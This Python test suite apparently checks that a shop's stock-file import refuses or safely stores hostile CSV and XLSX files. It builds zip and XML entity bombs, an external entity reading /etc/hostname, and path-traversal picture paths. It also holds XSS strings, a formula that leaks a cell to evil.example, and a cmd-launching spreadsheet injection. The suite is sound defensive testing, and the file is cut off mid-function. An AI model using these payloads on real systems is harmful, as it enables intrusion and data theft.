"""A hostile corpus: stock files made to break the import, run as a user runs it.

Every file is made here and goes through `ziliudi lots import FILE --lot T --json`
(with --accept-valid, --encoding or --supplier where the case says). Each one is either

- refused whole: exit 1, one sentence on stderr naming the problem (the numbers it is
  about, a row, an option), no traceback, nothing on stdout, in seconds, and the book
  byte for byte as it was, with --accept-valid too;
- rejected row by row: exit 1 listing each bad row and column, the count counting rows,
  the book unchanged; then --accept-valid imports exactly the valid rows;
- imported: exit 0 and the lot's items in the book exactly as in the file (text verbatim,
  quantities, prices in 分, pictures stored re-encoded in the profile's images folder).

Assertions are on behaviour (exit codes, the book, numbers and rows in the messages), not
on the wording of the sentences. The file-level helpers come from test_import_corpus.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import resource
import sqlite3
import threading
import time
import zipfile
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Callable

import openpyxl
import pytest

from shop import pictures
from shop.stock.files import DEFAULT_LIMITS
from shop.stock.values import MAX_MONEY, MAX_QUANTITY
from tests.shop.test_import_corpus import book  # noqa: F401 (the fixture)
from tests.shop.test_import_corpus import (GOOD, HEADER, LAUGHS, MB, PARTS, csv_bytes, dump, run,
                                           sheet_xml, with_bad, write_bytes, write_csv,
                                           write_raw_xlsx, write_sparse)

TITLE = "新货"  # every case imports into a new lot; the book's lot 春装 must keep its items
SECONDS = 30  # a refusal comes in seconds (generous for a loaded test machine)
pytestmark = pytest.mark.timeout(90)

# The good rows of test_import_corpus.GOOD as the book must hold them:
# (name, style_no, color, size, quantity, tag_price, supply_price), prices in 分.
GOOD_ITEMS = [("碎花连衣裙", "A01", "黑色", "M", 10, 29900, 8900),
              ("碎花连衣裙", "A01", "黑色", "L", 5, 29900, 8900),
              ("衬衫", "B02", "白色", "S", 7, 9900, 3900)]
CORE = ("name", "style_no", "color", "size", "quantity", "tag_price", "supply_price")
MAX_MONEY_YUAN = MAX_MONEY // 100  # the refusals state both maximums
INT64 = 2**63 - 1


# ------------------------------------------------------------------ expectations

@dataclass(frozen=True)
class Refused:
    """Refused whole; `numbers` (digits, separators ignored) and `words` are in the sentence."""

    numbers: tuple = ()
    words: tuple = ()


@dataclass(frozen=True)
class Rejected:
    """Bad rows: `problems` are the (row, column) pairs reported, `numbers` {row: digits that
    its reasons name}; --accept-valid imports `valid` (item tuples, CORE order, or dicts)."""

    problems: tuple
    numbers: dict = field(default_factory=dict)
    valid: tuple = tuple(GOOD_ITEMS)


@dataclass(frozen=True)
class Imported:
    """Imported as is: the lot's items are `items` (tuples in CORE order, or dicts)."""

    items: tuple = tuple(GOOD_ITEMS)


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable  # make(folder / name) -> the stock file's path
    expect: object
    args: tuple = ()
    title: str = TITLE
    supplier: str = "别家"


# ------------------------------------------------------------------ making files

def quoted_csv(rows, encoding="utf-8", sep=","):
    """CSV quoted as Excel writes it (cells with quotes, separators or line breaks)."""
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def write_quoted(rows, encoding="utf-8", prefix=b""):
    return write_bytes(prefix + quoted_csv(rows, encoding), ".csv")


def write_text_xlsx(rows):
    """An XLSX by openpyxl whose text cells stay text even when they start with '='."""
    def make(path):
        path = path.with_suffix(".xlsx")
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        for r, row in enumerate(rows, 1):
            for c, value in enumerate(row, 1):
                cell = sheet.cell(row=r, column=c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
        workbook.save(path)
        return path
    return make


def _escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def raw_cells(rows):
    """Sheet XML rows for raw XLSX parts: str as inline text, ("v", text) a number written
    as it is (e.g. '1E+400'), ("s", index) a shared text, anything else a number."""
    body = []
    for r, row in enumerate(rows, 1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{openpyxl.utils.get_column_letter(c + 1)}{r}"
            if isinstance(value, tuple):
                kind = ' t="s"' if value[0] == "s" else ""
                cells.append(f'<c r="{ref}"{kind}><v>{value[1]}</v></c>')
            elif isinstance(value, str):
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{_escape(value)}</t></is></c>')
            else:
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        body.append(f'<row r="{r}">' + "".join(cells) + "</row>")
    return "".join(body)


SHEET = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{dtd}'
         '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         '<sheetData>{rows}</sheetData></worksheet>')
SHARED_TYPE = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
               'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
SHARED_REL = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
              '2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')


def write_raw_sheet(rows, dtd=""):
    """An XLSX written part by part from raw_cells(rows)."""
    return write_raw_xlsx(sheet=SHEET.format(dtd=dtd, rows=raw_cells(rows)))


def write_shared_xlsx(rows, shared):
    """An XLSX whose ("s", index) cells point into sharedStrings.xml, `shared` (or shared())."""
    def make(path):
        path = path.with_suffix(".xlsx")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, text in PARTS.items():
                if name == "[Content_Types].xml":
                    text = text.replace("</Types>", SHARED_TYPE)
                elif name == "xl/_rels/workbook.xml.rels":
                    text = text.replace("</Relationships>", SHARED_REL)
                archive.writestr(name, text)
            archive.writestr("xl/worksheets/sheet1.xml", SHEET.format(dtd="", rows=raw_cells(rows)))
            archive.writestr("xl/sharedStrings.xml", shared() if callable(shared) else shared)
        return path
    return make


def shared_strings(strings, dtd=""):
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + dtd
            + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>')


def good_xlsx_rows(*bad):
    """The header and the good rows with typed numbers (prices in 元), `bad` rows placed
    after the second as with_bad places them."""
    good = [[n, s, c, z, q, t // 100, p // 100] for n, s, c, z, q, t, p in GOOD_ITEMS]
    return [list(HEADER), *good[:2], *[list(b) for b in bad], *good[2:]]


def special(kind):
    """A file that is no regular file: a link to a device, a FIFO, a folder."""
    def make(path):
        path = path.with_suffix(".csv")
        if kind == "zero":
            os.symlink("/dev/zero", path)
        elif kind == "null":
            os.symlink("/dev/null", path)
        elif kind == "fifo":
            os.mkfifo(path)
            threading.Thread(target=_writer_after, args=(path,), daemon=True).start()
        else:
            path.mkdir()
            (path / "stock.csv").write_bytes(csv_bytes([HEADER, *GOOD]))
        return path
    return make


def _writer_after(path, wait=SECONDS, until=120):
    """Should the import open the FIFO and wait for a writer, become that writer (with
    nothing to say) after `wait` seconds: the case then fails on time instead of hanging."""
    time.sleep(wait)
    end = time.monotonic() + until
    while time.monotonic() < end and os.path.exists(path):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:  # nobody is reading it
            time.sleep(0.5)
            continue
        os.close(fd)
        time.sleep(0.5)


def damaged_zip(path):
    """A workbook whose sheet is stored uncompressed with one byte changed: its CRC fails."""
    path = path.with_suffix(".xlsx")
    parts = {**PARTS, "xl/worksheets/sheet1.xml": sheet_xml(good_xlsx_rows())}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    data = bytearray(path.read_bytes())
    data[data.index(b"<sheetData>") + 20] ^= 0x01
    path.write_bytes(bytes(data))
    return path


def zip_bomb(megabytes):
    """A workbook whose sheet unpacks to `megabytes` of blanks (written in pieces)."""
    def make(path):
        path = path.with_suffix(".xlsx")
        head, tail = sheet_xml(good_xlsx_rows()).split("<sheetData>")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, text in PARTS.items():
                archive.writestr(name, text)
            with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
                part.write((head + "<sheetData>").encode())
                blank = b" " * MB
                for _ in range(megabytes):
                    part.write(blank)
                part.write(tail.encode())
        return path
    return make


def many_lines(count):
    def make(path):
        path = path.with_suffix(".csv")
        with open(path, "wb") as out:
            out.write(",".join(HEADER).encode() + b"\r\n")
            block = b"".join(f"裙,S{i:07d},黑,M,1,2,1\r\n".encode() for i in range(10_000))
            for _ in range(count // 10_000):
                out.write(block)
            out.write(b"".join(f"裙,T{i:07d},黑,M,1,2,1\r\n".encode()
                               for i in range(count % 10_000)))
        return path
    return make


def wide_csv(columns):
    def make(path):
        path = path.with_suffix(".csv")
        pad = "," * (columns - len(HEADER))
        lines = [",".join(HEADER) + pad] + [",".join(r) + pad for r in GOOD]
        path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
        return path
    return make


def wide_xlsx(columns):
    def make(path):
        path = path.with_suffix(".xlsx")
        header = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in HEADER)
        # Cells without a reference: each one is the next column, whatever letters it needs.
        pad = '<c t="inlineStr"><is><t>x</t></is></c>' * (columns - len(HEADER))
        rows = [f"<row>{header}{pad}</row>"]
        for n, s, c, z, q, t, p in GOOD:
            rows.append("<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>'
                                          for v in (n, s, c, z, q, t, p)) + "</row>")
        return write_raw_xlsx(sheet=SHEET.format(dtd="", rows="".join(rows)))(path)
    return make


def xlsx_far_row(row):
    def make(path):
        rows = raw_cells(good_xlsx_rows())
        far = f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>裙</t></is></c></row>'
        return write_raw_xlsx(sheet=SHEET.format(dtd="", rows=rows + far))(path)
    return make


def png_bytes(size=(40, 30), color="teal"):
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


PIC_HEADER = [*HEADER, "图片"]


def with_picture(cell, setup=None):
    """The good rows and, on row 4, a 毛衣 whose picture cell is `cell`; `setup(folder)`
    puts files next to the stock file (or outside its folder) first."""
    def make(path):
        folder = path.parent
        if setup is not None:
            setup(folder)
        rows = [PIC_HEADER, *[[*r, ""] for r in GOOD[:2]],
                ["毛衣", "C03", "灰色", "L", "2", "99", "39", cell], [*GOOD[2], ""]]
        path = path.with_suffix(".csv")
        path.write_bytes(quoted_csv(rows))
        return path
    return make


def _outside_png(folder):
    (folder.parent / "outside.png").write_bytes(png_bytes(color="red"))


def _link_out(folder):
    _outside_png(folder)
    os.symlink(folder.parent / "outside.png", folder / "linked.png")


def _text_png(folder):
    (folder / "notes.png").write_text("not a picture, just text", encoding="utf-8")


def _real_png(folder):
    (folder / "pics").mkdir(exist_ok=True)
    (folder / "pics" / "毛衣 C03.png").write_bytes(png_bytes())


def _big_png(folder):
    with open(folder / "huge.png", "wb") as f:
        f.write(png_bytes())
        f.truncate(pictures.MAX_BYTES + 1)


def _folder_png(folder):
    (folder / "folder.png").mkdir()


# Text that a page would run if it were not escaped, and text that lies about itself.
MARKUP = {
    "name": "<script>alert('name')</script>连衣裙",
    "style_no": "\"><img src=x onerror=alert(1)>",
    "color": "javascript:alert(1)",
    "size": "M\u2028L",
    "barcode": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "brand": "品牌\u202egnp.exe",
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MARKUP_HEADER = ["商品名称", "货号", "颜色", "尺码", "条码", "库存", "吊牌价", "供货价", "品牌",
                 "类目", "<b onmouseover=alert(1)>备注</b>"]
MARKUP_NOTE = "</textarea><svg/onload=alert(document.cookie)>"
MARKUP_ROW = [MARKUP["name"], MARKUP["style_no"], MARKUP["color"], MARKUP["size"],
              MARKUP["barcode"], "3", "199", "59", MARKUP["brand"], MARKUP["category"], MARKUP_NOTE]
MARKUP_ITEMS = (
    {**MARKUP, "quantity": 3, "tag_price": 19900, "supply_price": 5900,
     "extras": {"<b onmouseover=alert(1)>备注</b>": MARKUP_NOTE}},
    {"name": "+1-1 衬衫", "style_no": "-2+3", "color": "白色", "size": "S", "barcode": "",
     "quantity": 7, "tag_price": 9900, "supply_price": 3900, "brand": "", "category": ""},
)
MARKUP_ROWS = [MARKUP_HEADER, MARKUP_ROW,
               ["+1-1 衬衫", "-2+3", "白色", "S", "", "7", "99", "39", "", "", ""]]

BIG5_ROWS = [["name", "style no", "color", "size", "quantity", "tag price", "supply price"],
             ["碎花連衣裙", "A01", "黑色", "M", "10", "299", "89"],
             ["襯衫", "B02", "白色", "S", "7", "99", "39"]]
BIG5_ITEMS = (("碎花連衣裙", "A01", "黑色", "M", 10, 29900, 8900),
              ("襯衫", "B02", "白色", "S", 7, 9900, 3900))
SJIS_ROWS = [BIG5_ROWS[0], ["花柄ワンピース", "A01", "黒", "M", "10", "299", "89"],
             ["シャツ", "B02", "白", "S", "7", "99", "39"]]
SJIS_ITEMS = (("花柄ワンピース", "A01", "黒", "M", 10, 29900, 8900),
              ("シャツ", "B02", "白", "S", 7, 9900, 3900))

C03 = ("毛衣", "C03", "灰色", "L")


def good_with(*extra):
    """GOOD_ITEMS with `extra` items placed after the second, as with_bad places rows."""
    return tuple([*GOOD_ITEMS[:2], *extra, GOOD_ITEMS[2]])


def _unterminated(path):
    text = (",".join(HEADER) + "\r\n" + ",".join(GOOD[0]) + "\r\n"
            + '衬衫,"B02,白色,S,7,99,39\r\n' + ",".join(GOOD[1]) + "\r\n"
            + ",".join(["毛衣", "C03", "灰色", "L", "2", "99", "39"]) + "\r\n")
    path = path.with_suffix(".csv")
    path.write_text(text, encoding="utf-8")
    return path


CORPUS = [
    # ---------------------------------------------------------------- encodings
    Case("utf8_without_bom", write_csv([HEADER, *GOOD]), Imported()),
    Case("utf8_with_bom", write_bytes(codecs.BOM_UTF8 + csv_bytes([HEADER, *GOOD]), ".csv"),
         Imported()),
    Case("utf16_le_with_bom", write_bytes(codecs.BOM_UTF16_LE
                                          + csv_bytes([HEADER, *GOOD], "utf-16-le"), ".csv"),
         Imported()),
    Case("utf16_be_with_bom", write_bytes(codecs.BOM_UTF16_BE
                                          + csv_bytes([HEADER, *GOOD], "utf-16-be"), ".csv"),
         Imported()),
    Case("gbk_without_bom", write_csv([HEADER, *GOOD], "gbk"), Imported()),
    Case("big5", write_quoted(BIG5_ROWS, "big5"), Refused(words=("--encoding",))),
    Case("big5_with_encoding", write_quoted(BIG5_ROWS, "big5"), Imported(BIG5_ITEMS),
         args=("--encoding", "big5")),
    Case("shift_jis", write_quoted(SJIS_ROWS, "shift_jis"), Refused(words=("--encoding",))),
    Case("shift_jis_with_encoding", write_quoted(SJIS_ROWS, "shift_jis"), Imported(SJIS_ITEMS),
         args=("--encoding", "shift_jis")),
    Case("gbk_with_a_utf8_row_inside",
         write_bytes(csv_bytes([HEADER, *GOOD[:2]], "gbk")
                     + csv_bytes([["毛衣", "C03", "灰色", "L", "2", "99", "39"]])
                     + csv_bytes([GOOD[2]], "gbk"), ".csv"), Refused()),
    Case("utf8_with_one_stray_byte",
         write_bytes(csv_bytes([HEADER, *GOOD]).replace("衬衫".encode(), "衬".encode() + b"\xff"),
                     ".csv"), Refused()),
    Case("nul_byte_in_a_cell",
         write_bytes(csv_bytes([HEADER, *GOOD]).replace("衬衫".encode(), "衬\0衫".encode()),
                     ".csv"), Refused()),

    # ---------------------------------------------------------------- sizes and kinds
    Case("over_the_size_cap", write_sparse(DEFAULT_LIMITS.file_bytes + 1, ".csv"),
         Refused(numbers=(str(DEFAULT_LIMITS.file_bytes // MB),))),
    Case("sparse_4_gb_xlsx", write_sparse(4 * 1024 * MB, ".xlsx"),
         Refused(numbers=(str(DEFAULT_LIMITS.file_bytes // MB),))),
    Case("symlink_to_dev_zero", special("zero"), Refused()),
    Case("symlink_to_dev_null", special("null"), Refused()),
    Case("fifo", special("fifo"), Refused()),
    Case("directory_named_csv", special("folder"), Refused()),
    Case("empty", write_bytes(b"", ".csv"), Refused()),

    # ---------------------------------------------------------------- numbers
    Case("huge_exponent", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "1e999999999", "99",
                                              "39"])), Rejected(((4, "库存"),))),
    Case("huge_exponent_price", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "2", "9E+99999999",
                                                    "39"])), Rejected(((4, "吊牌价"),))),
    Case("five_thousand_digits", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "9" * 5000, "99",
                                                     "39"])), Rejected(((4, "库存"),))),
    Case("five_thousand_digit_price", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "2", "99",
                                                          "1" + "0" * 4999 + ".00"])),
         Rejected(((4, "供货价"),))),
    Case("two_quantities_at_int64",
         write_csv(with_bad(["毛衣", "C03", "灰色", "L", str(INT64), "99", "39"],
                            ["毛衣", "C03", "灰色", "XL", str(INT64), "99", "39"])),
         Rejected(((4, "库存"), (5, "库存")),
                  {4: (str(MAX_QUANTITY),), 5: (str(MAX_QUANTITY),)})),
    Case("negative_numbers", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "-2", "99", "39"],
                                                ["毛衣", "C03", "灰色", "XL", "2", "-99", "-39"])),
         Rejected(((4, "库存"), (5, "吊牌价"), (5, "供货价")))),
    Case("nan_and_infinity", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "NaN", "99", "39"],
                                                ["毛衣", "C03", "灰色", "XL", "2", "inf", "39"],
                                                ["毛衣", "C03", "灰色", "XXL", "2", "99",
                                                 "-Infinity"])),
         Rejected(((4, "库存"), (5, "吊牌价"), (6, "供货价")))),
    Case("full_width_digits", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "１２", "９９．５",
                                                  "￥３９"])),
         Imported(good_with((*C03, 12, 9950, 3900)))),
    Case("money_with_three_decimals",
         write_csv(with_bad(["毛衣", "C03", "灰色", "L", "2", "99.990", "39.5"],
                            ["毛衣", "C03", "灰色", "XL", "2", "99.999", "39"])),
         Rejected(((5, "吊牌价"),), valid=good_with((*C03, 2, 9999, 3950)))),
    Case("quantity_at_and_above_the_maximum",
         write_quoted(with_bad(["毛衣", "C03", "灰色", "L", str(MAX_QUANTITY), "99", "39"],
                               ["毛衣", "C03", "灰色", "XL", str(MAX_QUANTITY + 1), "99", "39"],
                               ["毛衣", "C03", "灰色", "XXL", "1,000,001", "99", "39"])),
         Rejected(((5, "库存"), (6, "库存")),
                  {5: (str(MAX_QUANTITY),), 6: (str(MAX_QUANTITY),)},
                  valid=good_with((*C03, MAX_QUANTITY, 9900, 3900)))),
    Case("money_at_and_above_the_maximum",
         write_csv(with_bad(["毛衣", "C03", "灰色", "L", "2", f"{MAX_MONEY_YUAN}.00",
                             f"{MAX_MONEY_YUAN}"],
                            ["毛衣", "C03", "灰色", "XL", "2", f"{MAX_MONEY_YUAN + 1}", "39"])),
         Rejected(((5, "吊牌价"),), {5: (str(MAX_MONEY_YUAN),)},
                  valid=good_with((*C03, 2, MAX_MONEY_YUAN * 100, MAX_MONEY_YUAN * 100)))),
    Case("xlsx_numbers_past_the_limits",
         write_raw_sheet(good_xlsx_rows(["毛衣", "C03", "灰色", "L", ("v", str(INT64)), 99, 39],
                                        ["毛衣", "C03", "灰色", "XL", ("v", "1E+400"), 99, 39],
                                        ["毛衣", "C03", "灰色", "XXL", 2, ("v", "1.5E+300"), 39])),
         Rejected(((4, "库存"), (5, "库存"), (6, "吊牌价")), {4: (str(MAX_QUANTITY),)})),

    # ---------------------------------------------------------------- structure
    Case("unterminated_quote", _unterminated, Refused(numbers=("3",))),
    Case("unterminated_quote_accept_valid", _unterminated, Refused(numbers=("3",)),
         args=("--accept-valid",)),
    Case("csv_18278_columns_and_more", wide_csv(18_300),
         Refused(numbers=(str(DEFAULT_LIMITS.columns),))),
    Case("xlsx_18278_columns_and_more", wide_xlsx(18_300),
         Refused(numbers=(str(DEFAULT_LIMITS.columns),))),
    Case("csv_at_the_column_limit", wide_csv(DEFAULT_LIMITS.columns), Imported()),
    Case("csv_a_column_past_the_limit", wide_csv(DEFAULT_LIMITS.columns + 1),
         Refused(numbers=(str(DEFAULT_LIMITS.columns),))),
    Case("csv_a_line_past_the_limit",
         write_csv(with_bad(["毛" * DEFAULT_LIMITS.line_chars, "C03", "灰色", "L", "2", "99", "39"])),
         Refused(numbers=(str(DEFAULT_LIMITS.line_chars),))),
    Case("xlsx_a_name_at_the_cell_limit",
         write_text_xlsx(good_xlsx_rows(["毛" * DEFAULT_LIMITS.cell_chars, "C03", "灰色", "L", 2,
                                         99, 39])),
         Imported(good_with(("毛" * DEFAULT_LIMITS.cell_chars, *C03[1:], 2, 9900, 3900)))),
    Case("xlsx_a_name_past_the_cell_limit",  # inline text: openpyxl would cut it short
         write_raw_sheet(good_xlsx_rows(["毛" * (DEFAULT_LIMITS.cell_chars + 1), "C03", "灰色", "L",
                                         2, 99, 39])),
         Refused(numbers=(str(DEFAULT_LIMITS.cell_chars),))),
    Case("header_only", write_quoted([HEADER], prefix=codecs.BOM_UTF8), Refused()),
    Case("no_header", write_csv(GOOD), Refused()),
    Case("a_million_and_one_rows", many_lines(1_000_001),
         Refused(numbers=(str(DEFAULT_LIMITS.rows),))),
    Case("xlsx_row_past_the_limit", xlsx_far_row(DEFAULT_LIMITS.rows + 5),
         Refused(numbers=(str(DEFAULT_LIMITS.rows),))),
    Case("duplicate_skus", write_csv(with_bad(["碎花连衣裙", "A01", "黑色", "M", "3", "299", "89"],
                                              ["碎花连衣裙", "Ａ０１", "黑色", "ｍ", "3", "299",
                                               "89"])),
         Rejected(((4, "货号"), (5, "货号")), {4: ("2",), 5: ("2",)})),
    Case("empty_quantity", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "", "99", "39"])),
         Rejected(((4, "库存"),))),
    Case("empty_supply_price", write_csv(with_bad(["毛衣", "C03", "灰色", "L", "2", "99", ""])),
         Rejected(((4, "供货价"),))),
    Case("three_problems_in_one_row",
         write_csv(with_bad(["", "C03", "灰色", "L", "-2", "面议", "39"])),
         Rejected(((4, "商品名称"), (4, "库存"), (4, "吊牌价")))),
    Case("quoted_separators_and_line_breaks",
         write_quoted([HEADER, ["碎花,连衣裙\r\n第二行", "A01", "黑色", "M", "10", "299", "89"],
                       ["衬衫 \"经典\"", "B;02", "白色", "S", "7", "99", "39"]]),
         Imported((("碎花,连衣裙\r\n第二行", "A01", "黑色", "M", 10, 29900, 8900),
                   ("衬衫 \"经典\"", "B;02", "白色", "S", 7, 9900, 3900)))),
    Case("blank_rows_keep_their_numbers",
         write_bytes(csv_bytes([HEADER, GOOD[0]]) + b"\r\n,,,,,,\r\n \r\n"
                     + csv_bytes([GOOD[1], ["毛衣", "C03", "灰色", "L", "x", "99", "39"], GOOD[2]]),
                     ".csv"),
         Rejected(((7, "库存"),))),

    # ---------------------------------------------------------------- XLSX
    Case("zip_bomb_in_the_sheet", zip_bomb(400), Refused()),
    Case("entity_bomb_in_shared_strings",
         write_shared_xlsx(good_xlsx_rows(["毛衣", ("s", 0), "灰色", "L", 2, 99, 39]),
                           shared_strings(["&lol9;"], dtd=LAUGHS)), Refused()),
    Case("external_entity", write_raw_xlsx(sheet=SHEET.format(
        dtd='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
        rows=raw_cells(good_xlsx_rows()).replace(">衬衫<", ">&e;<"))), Refused()),
    Case("huge_shared_string",
         write_shared_xlsx(good_xlsx_rows(["毛衣", ("s", 0), "灰色", "L", 2, 99, 39]),
                           lambda: shared_strings([os.urandom(3 * MB).hex()])),
         Refused(numbers=(str(DEFAULT_LIMITS.cell_chars),))),
    Case("two_million_shared_strings",
         write_shared_xlsx(good_xlsx_rows(["毛衣", ("s", 1_999_999), "灰色", "L", 2, 99, 39]),
                           lambda: shared_strings([f"{i:x}" for i in range(2_000_000)])),
         Refused(numbers=(str(DEFAULT_LIMITS.shared_strings),))),
    Case("formula_without_a_value",
         write_raw_xlsx(good_xlsx_rows(["毛衣", "C03", "灰色", "L", 2, 99, "=G2*0.5"])),
         Rejected(((4, "供货价"),))),
    Case("damaged_zip", damaged_zip, Refused()),
    Case("csv_named_xlsx", write_bytes(csv_bytes([HEADER, *GOOD]), ".xlsx"), Refused()),

    # ---------------------------------------------------------------- picture paths
    Case("picture_etc_hostname", with_picture("/etc/hostname"), Rejected(((4, "图片"),))),
    Case("picture_parent_book", with_picture("../book.db"), Rejected(((4, "图片"),))),
    Case("picture_parent_real_png", with_picture("../outside.png", _outside_png),
         Rejected(((4, "图片"),))),
    Case("picture_backslashes", with_picture("..\\..\\x.png"), Rejected(((4, "图片"),))),
    Case("picture_file_url", with_picture("file:///etc/passwd"), Rejected(((4, "图片"),))),
    Case("picture_web_url", with_picture("https://evil.example/x.png"),
         Rejected(((4, "图片"),))),
    Case("picture_absolute_real_png", lambda p: with_picture(
        str(p.parent.parent / "outside.png"), _outside_png)(p), Rejected(((4, "图片"),))),
    Case("picture_symlink_leading_out", with_picture("linked.png", _link_out),
         Rejected(((4, "图片"),))),
    Case("picture_text_named_png", with_picture("notes.png", _text_png),
         Rejected(((4, "图片"),))),
    Case("picture_too_large", with_picture("huge.png", _big_png), Rejected(((4, "图片"),))),
    Case("picture_a_folder", with_picture("folder.png", _folder_png), Rejected(((4, "图片"),))),
    Case("picture_real_png_beside_the_file", with_picture("pics/毛衣 C03.png", _real_png),
         Imported(good_with({"name": "毛衣", "style_no": "C03", "color": "灰色", "size": "L",
                             "quantity": 2, "tag_price": 9900, "supply_price": 3900,
                             "image": "stored:pics/毛衣 C03.png"}))),

    # ---------------------------------------------------------------- markup in every text field
    Case("markup_in_every_text_field_csv", write_quoted(MARKUP_ROWS), Imported(MARKUP_ITEMS)),
    Case("markup_in_every_text_field_xlsx", write_text_xlsx(MARKUP_ROWS), Imported(MARKUP_ITEMS)),
    Case("markup_in_the_lot_and_the_supplier", write_csv([HEADER, *GOOD]), Imported(),
         title="<script>alert('lot')</script>\u202e档期", supplier="\"><img src=x onerror=alert(2)>"),
]


def test_the_corpus_is_large_and_distinct():
    assert len(CORPUS) >= 40
    assert len({c.name for c in CORPUS}) == len(CORPUS)


# ------------------------------------------------------------------ reading the book

COLUMNS = ("name", "style_no", "color", "size", "quantity", "tag_price", "supply_price",
           "barcode", "brand", "category", "image", "extras")


def lot_items(path, title):
    """The lot's items as stored, in import order, as dicts of COLUMNS."""
    conn = sqlite3.connect(path)
    try:
        rows = conn.execute(
            f"SELECT {', '.join('i.' + c for c in COLUMNS)} FROM lot_items i"
            " JOIN lots ON lots.id = i.lot_id WHERE lots.title = ? ORDER BY i.id",
            [title]).fetchall()
        lot = conn.execute("SELECT supplier FROM lots WHERE title = ?", [title]).fetchone()
    finally:
        conn.close()
    items = []
    for row in rows:
        item = dict(zip(COLUMNS, row))
        item["extras"] = json.loads(item["extras"]) if item["extras"] else {}
        items.append(item)
    return items, lot


def _expected(item):
    return dict(zip(CORE, item)) if isinstance(item, tuple) else dict(item)


def check_items(path, title, expected, folder, images):
    items, _ = lot_items(path, title)
    assert len(items) == len(expected), [i["style_no"] for i in items]
    for got, want in zip(items, map(_expected, expected)):
        image = want.pop("image", None)
        assert {k: got[k] for k in want} == want
        if image is None:
            assert got["image"] == ""
        else:
            # A picture beside the stock file is stored re-encoded under a name of its own.
            source = (folder / image.removeprefix("stored:")).read_bytes()
            assert pictures.is_name(got["image"]), got["image"]
            stored = pictures.resolve(images, got["image"])
            assert stored is not None and stored.read_bytes() != source
            from PIL import Image

            assert Image.open(stored).size == Image.open(io.BytesIO(source)).size


def digits(text):
    """Numbers in `text` without their group separators: '1,000,000' -> '1000000'."""
    return re.sub(r"(?<=\d)[,，_ ](?=\d{3})", "", text)


def no_copies(images, folder):
    """Nothing outside the stock folder reached the profile's pictures."""
    if not images.exists():
        return
    secrets = [b for b in (_read("/etc/hostname"), _read("/etc/passwd"),
                           _read(folder.parent / "outside.png")) if b]
    for stored in images.iterdir():
        data = stored.read_bytes()
        assert not any(s == data for s in secrets), stored


def _read(path):
    try:
        return open(path, "rb").read()
    except OSError:
        return b""


# ------------------------------------------------------------------ running it

@contextmanager
def memory_cap(extra=2048 * MB):
    """Cap this process's address space at its size now plus `extra` while the import runs,
    so that a file that would be read whole (a link to /dev/zero) fails with MemoryError
    instead of taking the machine's memory."""
    with open("/proc/self/status") as status:
        size = next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmSize:"))
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    cap = size + extra
    resource.setrlimit(resource.RLIMIT_AS, (cap if hard == resource.RLIM_INFINITY
                                            else min(cap, hard), hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def import_file(capsys, prefix, source, case, *extra):
    command = [*prefix, "lots", "import", str(source), "--lot", case.title,
               "--supplier", case.supplier, "--json", *case.args, *extra]
    started = time.monotonic()
    with memory_cap():
        code, out, err = run(capsys, *command)
    return code, out, err, time.monotonic() - started


def assert_refused(code, out, err, elapsed, expect):
    assert code == 1, (out, err)
    assert out == "" and "Traceback" not in err, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("ziliudi: ") and len(lines[0]) > 30, err
    for number in expect.numbers:
        assert re.search(rf"(?<!\d){number}(?!\d)", digits(err)), (number, err)
    for word in expect.words:
        assert word in err, err
    assert elapsed < SECONDS, elapsed


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_hostile_file(case, book, tmp_path, capsys):  # noqa: F811
    prefix, path = book
    capsys.readouterr()
    folder = tmp_path / "stock"
    folder.mkdir()
